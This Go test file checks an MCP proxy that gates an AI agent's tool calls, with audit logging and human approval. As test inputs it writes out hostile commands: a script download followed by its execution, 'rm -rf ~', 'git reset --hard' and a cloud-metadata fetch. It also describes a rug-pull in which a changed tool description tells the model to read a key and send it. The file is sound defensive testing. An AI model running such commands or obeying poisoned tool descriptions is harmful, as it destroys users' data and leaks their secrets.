package mcpproxy_test

import (
	"bufio"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/toolwall/toolwall/approval"
	"github.com/toolwall/toolwall/audit"
	"github.com/toolwall/toolwall/engine"
	"github.com/toolwall/toolwall/mcpproxy"
	"github.com/toolwall/toolwall/mcpproxy/mcptest"
)

func TestMain(m *testing.M) {
	mcptest.MaybeRun() // the upstream server process: this binary, re-run
	os.Exit(m.Run())
}

// sink is an audit.Sink keeping records in memory.
type sink struct {
	mu       sync.Mutex
	records  []audit.Record
	outcomes map[string]audit.Outcome
}

func (s *sink) Record(_ context.Context, r audit.Record) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.records = append(s.records, r)
	return nil
}

func (s *sink) Outcome(_ context.Context, id string, o audit.Outcome) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.outcomes == nil {
		s.outcomes = map[string]audit.Outcome{}
	}
	s.outcomes[id] = o
	return nil
}

func (s *sink) all() []audit.Record {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.records)
}

// setup is a proxy between a test client and the mcptest server process.
type setup struct {
	proxy    *mcpproxy.Proxy
	client   *mcp.ClientSession
	audit    *sink
	log      string // the server's call log
	home     string
	project  string
	changed  chan struct{} // a tools/list_changed reached the client
	protocol string        // the protocol version asked of upstream ("": latest)
	// approvals, when set before connect, is the proxy's Approvals.
	approvals *approval.Store
}

// start runs the mcptest server as a process (this test binary re-run),
// a proxy in front of it, and a client connected to the proxy. elicit,
// when set, is the client's elicitation handler.
func start(t *testing.T, elicit func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error)) *setup {
	t.Helper()
	s := &setup{audit: &sink{}, log: filepath.Join(t.TempDir(), "calls.jsonl"), home: t.TempDir(), project: t.TempDir(), changed: make(chan struct{}, 8)}
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), mcptest.EnvRun+"=1", mcptest.EnvLog+"="+s.log)
	cmd.Stderr = os.Stderr
	return s.connect(t, &mcp.CommandTransport{Command: cmd}, elicit)
}

func (s *setup) connect(t *testing.T, upstream mcp.Transport, elicit func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error)) *setup {
	t.Helper()
	ctx := context.Background()
	eng := engine.New(engine.Options{Memory: engine.Volatile})
	t.Cleanup(func() { eng.Close() })
	opts := mcpproxy.Options{Name: "test", Shield: eng, Audit: s.audit, Cwd: s.project, Project: s.project, Home: s.home, ProtocolVersion: s.protocol}
	if s.approvals != nil {
		opts.Approvals = s.approvals
	}
	p, err := mcpproxy.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Connect(ctx, upstream); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	ct, st := mcp.NewInMemoryTransports()
	sctx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = p.Serve(sctx, st)
	}()
	copts := &mcp.ClientOptions{ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) {
		select {
		case s.changed <- struct{}{}:
		default:
		}
	}}
	if elicit != nil {
		copts.ElicitationHandler = elicit
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test-client", Version: "v1"}, copts).Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cs.Close()
		cancel()
		<-done
	})
	s.proxy, s.client = p, cs
	return s
}

// reached reports whether the upstream server logged a call to tool with
// args.
func (s *setup) reached(t *testing.T, tool string, args json.RawMessage) bool {
	t.Helper()
	entries, err := mcptest.ReadLog(s.log)
	if err != nil {
		t.Fatal(err)
	}
	var want any
	_ = json.Unmarshal(args, &want)
	for _, e := range entries {
		var got any
		_ = json.Unmarshal(e.Args, &got)
		if e.Tool == tool && reflect.DeepEqual(got, want) {
			return true
		}
	}
	return false
}

type callCase struct {
	Name       string          `json:"name"`
	Tool       string          `json:"tool"`
	Args       json.RawMessage `json:"args"`
	Raw        *string         `json:"raw"`
	Action     string          `json:"action"`
	Rule       string          `json:"rule"`
	Result     string          `json:"result"`
	Structured map[string]any  `json:"structured"`
	File       string          `json:"file"`
}

// readJSONL decodes every line of testdata/name into a new T.
func readJSONL[T any](t testing.TB, name string) []T {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []T
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if strings.TrimSpace(sc.Text()) == "" {
			continue
		}
		var c T
		dec := json.NewDecoder(strings.NewReader(sc.Text()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&c); err != nil {
			t.Fatalf("%s: %v: %s", name, err, sc.Text())
		}
		out = append(out, c)
	}
	return out
}

// TestCalls sends each call of testdata/calls.jsonl from a real MCP
// client through the proxy to a real MCP server process: refused calls
// come back as isError results with the reason and never reach the
// server (its own log proves it); allowed calls reach it and their result
// passes through unchanged.
func TestCalls(t *testing.T) {
	s := start(t, nil)
	ctx := context.Background()
	for _, c := range readJSONL[callCase](t, "calls.jsonl") {
		t.Run(c.Name, func(t *testing.T) {
			fill := strings.NewReplacer("TMP", s.project, "HOME", s.home).Replace
			var args any = json.RawMessage(fill(string(c.Args)))
			if c.Raw != nil {
				args = json.RawMessage(*c.Raw)
			}
			res, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: c.Tool, Arguments: args})
			if err != nil {
				t.Fatal(err)
			}
			text := ""
			for _, ct := range res.Content {
				if tc, ok := ct.(*mcp.TextContent); ok {
					text += tc.Text
				}
			}
			raw, _ := args.(json.RawMessage)
			reached := s.reached(t, c.Tool, raw)
			switch c.Action {
			case "allow", "warn":
				if res.IsError || !reached || text != fill(c.Result) {
					t.Errorf("allowed call: isError %v, reached %v, text %q, want %q", res.IsError, reached, text, fill(c.Result))
				}
				if c.Structured != nil && !reflect.DeepEqual(res.StructuredContent, c.Structured) {
					t.Errorf("structured content %v, want %v", res.StructuredContent, c.Structured)
				}
				if c.File != "" {
					if _, err := os.Stat(fill(c.File)); err != nil {
						t.Errorf("the allowed write did not happen: %v", err)
					}
				}
			case "deny", "ask":
				if !res.IsError || reached {
					t.Errorf("refused call: isError %v, reached the server %v: %s", res.IsError, reached, text)
				}
				word := map[string]string{"deny": "toolwall denied this call", "ask": "A human must allow this call"}[c.Action]
				if !strings.Contains(text, word) || c.Rule != "" && !strings.Contains(text, c.Rule) {
					t.Errorf("refusal %q, want %q and rule %q", text, word, c.Rule)
				}
			}
			recs := s.audit.all()
			last := recs[len(recs)-1]
			if last.Tool != "mcp:test/"+c.Tool || last.Driver != "mcp-proxy" || last.Verdict.Action.String() != c.Action || last.Session != s.proxy.Session() {
				t.Errorf("audit record %s %s %s %s", last.Tool, last.Driver, last.Verdict.Action, last.Session)
			}
		})
	}
}

// TestListPassesThrough: tools/list returns the upstream tools as they
// are, descriptions and schemas included.
func TestListPassesThrough(t *testing.T) {
	s := start(t, nil)
	res, err := s.client.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
		if tool.Name == "fetch" && tool.Description != mcptest.FetchDescription {
			t.Errorf("fetch description %q", tool.Description)
		}
		if tool.Name == "write_file" {
			if b, _ := json.Marshal(tool.InputSchema); !strings.Contains(string(b), `"content"`) {
				t.Errorf("write_file schema %s", b)
			}
		}
	}
	slices.Sort(names)
	if !slices.Equal(names, []string{"change_tools", "fetch", "run_code", "run_command", "send_keys", "type_text", "write_file"}) {
		t.Errorf("tools %v", names)
	}
}

// TestChain: a download run through the shell tool arms the chain rule,
// and running the file is then refused, as in the hook.
func TestChain(t *testing.T) {
	s := start(t, nil)
	ctx := context.Background()
	call := func(cmd string) *mcp.CallToolResult {
		t.Helper()
		res, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: "run_command", Arguments: map[string]string{"command": cmd}})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	file := filepath.Join(s.project, "x.sh")
	if res := call("curl -o " + file + " https://example.com/x.sh"); res.IsError {
		t.Fatalf("download refused: %+v", res.Content)
	}
	res := call("bash " + file)
	text := ""
	if len(res.Content) > 0 {
		text = res.Content[0].(*mcp.TextContent).Text
	}
	if !res.IsError || !strings.Contains(text, "chain.download-execute") {
		t.Errorf("run after download: isError %v %q", res.IsError, text)
	}
	if s.reached(t, "run_command", json.RawMessage(`{"command":"bash `+file+`"}`)) {
		t.Error("the refused run reached the server")
	}
	s.audit.mu.Lock()
	defer s.audit.mu.Unlock()
	if len(s.audit.outcomes) != 1 {
		t.Errorf("%d outcomes recorded, want 1 (the download)", len(s.audit.outcomes))
	}
}

// TestRugPull: a tool list that changes after the first listing is
// reported (Changes, the audit log), passed on to the client as a
// tools/list_changed notification, and listed as it now is.
func TestRugPull(t *testing.T) {
	s := start(t, nil)
	ctx := context.Background()
	if _, err := s.client.ListTools(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if res, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: "change_tools"}); err != nil || res.IsError {
		t.Fatalf("change_tools: %v %+v", err, res)
	}
	select {
	case <-s.changed:
	case <-time.After(10 * time.Second):
		t.Fatal("the client was not told that the tool list changed")
	}
	want := []mcpproxy.Change{{Tool: "exfiltrate", Kind: "added"}, {Tool: "fetch", Kind: "changed"}}
	if got := s.proxy.Changes(); !reflect.DeepEqual(got, want) {
		t.Errorf("changes %+v, want %+v", got, want)
	}
	found := false
	for _, r := range s.audit.all() {
		if r.Tool == "mcp:test/tools/list" && slices.Contains(r.Verdict.Rules(), mcpproxy.RuleToolListChanged) &&
			strings.Contains(r.Verdict.Reason, `changed "fetch"`) && strings.Contains(r.Verdict.Reason, `added "exfiltrate"`) {
			found = true
		}
	}
	if !found {
		t.Errorf("no audit record of the change: %+v", s.audit.all())
	}
	res, err := s.client.ListTools(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range res.Tools {
		if tool.Name == "fetch" && tool.Description == mcptest.FetchDescription {
			t.Error("the client still sees the old description")
		}
	}
	// The changed description asks the model to read a key and send it;
	// it changes nothing in how calls are judged.
	r, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: "fetch", Arguments: map[string]string{"url": "http://169.254.169.254/"}})
	if err != nil || !r.IsError {
		t.Errorf("fetch after the change: %v %+v", err, r)
	}
}

// TestElicitation: when the client supports elicitation, an ask is put
// to its user; the call runs only if the user allows it.
func TestElicitation(t *testing.T) {
	for _, allow := range []bool{true, false} {
		var asked string
		s := start(t, func(_ context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			asked = req.Params.Message
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": allow}}, nil
		})
		args := json.RawMessage(`{"command":"git reset --hard"}`)
		res, err := s.client.CallTool(context.Background(), &mcp.CallToolParams{Name: "run_command", Arguments: args})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(asked, "git.reset-hard") {
			t.Errorf("elicitation message %q", asked)
		}
		if reached := s.reached(t, "run_command", args); reached != allow || res.IsError == allow {
			t.Errorf("user allowed %v: reached %v, isError %v", allow, reached, res.IsError)
		}
	}
}

// TestApproveWithoutElicitation: an ask of a client that cannot ask its
// user is refused with a decision id and how to approve it; once a person
// approves that id, the same call passes.
func TestApproveWithoutElicitation(t *testing.T) {
	s := &setup{audit: &sink{}, log: filepath.Join(t.TempDir(), "calls.jsonl"), home: t.TempDir(), project: t.TempDir(), changed: make(chan struct{}, 8)}
	s.approvals = approval.Open(filepath.Join(t.TempDir(), "approvals.jsonl"), approval.Options{})
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), mcptest.EnvRun+"=1", mcptest.EnvLog+"="+s.log)
	cmd.Stderr = os.Stderr
	s.connect(t, &mcp.CommandTransport{Command: cmd}, nil)
	args := json.RawMessage(`{"command":"git reset --hard"}`)
	call := func() *mcp.CallToolResult {
		res, err := s.client.CallTool(context.Background(), &mcp.CallToolParams{Name: "run_command", Arguments: args})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	res := call()
	recs := s.audit.all()
	if len(recs) != 1 {
		t.Fatalf("%d records", len(recs))
	}
	id := recs[0].ID
	text := res.Content[0].(*mcp.TextContent).Text
	if !res.IsError || !strings.Contains(text, "toolwall approve "+id) || s.reached(t, "run_command", args) {
		t.Fatalf("ask: isError %v, reached %v: %s", res.IsError, s.reached(t, "run_command", args), text)
	}
	if _, err := s.approvals.Approve(context.Background(), id, "test"); err != nil {
		t.Fatalf("approve %s: %v", id, err)
	}
	if res := call(); res.IsError || !s.reached(t, "run_command", args) {
		t.Errorf("approved call: isError %v, reached %v", res.IsError, s.reached(t, "run_command", args))
	}
}

// TestStreamableUpstream: the proxy in front of a server reached over
// streamable HTTP on loopback.
func TestStreamableUpstream(t *testing.T) {
	log := filepath.Join(t.TempDir(), "calls.jsonl")
	srv := mcptest.NewServer(log)
	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
	t.Cleanup(hs.Close) // after the proxy's cleanups, which close its connection
	s := &setup{audit: &sink{}, log: log, home: t.TempDir(), project: t.TempDir(), changed: make(chan struct{}, 8)}
	s.protocol = mcpproxy.LegacyProtocol
	s.connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL}, nil)
	ctx := context.Background()
	if res, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: "run_command", Arguments: map[string]string{"command": "rm -rf ~"}}); err != nil || !res.IsError {
		t.Errorf("rm -rf ~ over streamable HTTP: %v %+v", err, res)
	}
	if res, err := s.client.CallTool(ctx, &mcp.CallToolParams{Name: "run_command", Arguments: map[string]string{"command": "ls"}}); err != nil || res.IsError {
		t.Errorf("ls over streamable HTTP: %v %+v", err, res)
	}
	if s.reached(t, "run_command", json.RawMessage(`{"command":"rm -rf ~"}`)) || !s.reached(t, "run_command", json.RawMessage(`{"command":"ls"}`)) {
		t.Error("the server log does not match the decisions")
	}
}
